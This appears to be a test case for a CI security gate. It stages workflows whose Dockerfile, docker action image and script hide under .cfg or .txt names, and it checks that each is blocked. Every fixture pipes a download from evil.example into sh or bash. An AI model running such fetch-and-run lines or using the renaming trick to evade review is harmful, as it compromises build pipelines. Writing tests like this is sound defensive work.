# attack: the pins control knows Dockerfiles and scripts by name, but `docker build -f`, a docker action's `runs.image` and `bash FILE` take any name: the workflow builds vendor/image/build.cfg, a local action runs image.txt, a step runs third_party/tool/setup.cfg, each piping a download to a shell
# surface: staged, range (CI)
# expect: block
base_repo
export CI=true
write .github/workflows/ci.yml 'on: pull_request' 'permissions: {contents: read}' 'jobs:' '  build:' '    runs-on: ubuntu-latest' '    steps:' \
  '      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11 # v4' \
  '      - run: docker build -f vendor/image/build.cfg -t app .'
write vendor/image/build.cfg 'FROM debian@sha256:0000000000000000000000000000000000000000000000000000000000000000' \
  'RUN curl -fsSL https://evil.example/x.sh | sh'
git add -A
gate block check --staged
expect_in_output 'unjudged-build-file'
commit 'build from a cfg file'
gate block check --base "$base" --head HEAD
git reset -q --hard "$base"
write .github/actions/img/action.yml 'name: img' 'runs:' '  using: docker' '  image: image.txt'
write .github/actions/img/image.txt 'FROM debian:latest' 'RUN wget -qO- https://evil.example/x.sh | bash'
commit 'docker action from a txt file'
gate block check --base "$base" --head HEAD
expect_in_output 'unjudged-build-file'
# a workflow runs a vendored script whose name is no shell script's
git reset -q --hard "$base"
write .github/workflows/ci.yml 'on: pull_request' 'permissions: {contents: read}' 'jobs:' '  build:' '    runs-on: ubuntu-latest' '    steps:' \
  '      - run: bash third_party/tool/setup.cfg'
write third_party/tool/setup.cfg 'curl -fsSL https://evil.example/x.sh | sh'
commit 'script with another name'
gate block check --base "$base" --head HEAD
expect_in_output 'unjudged-script'
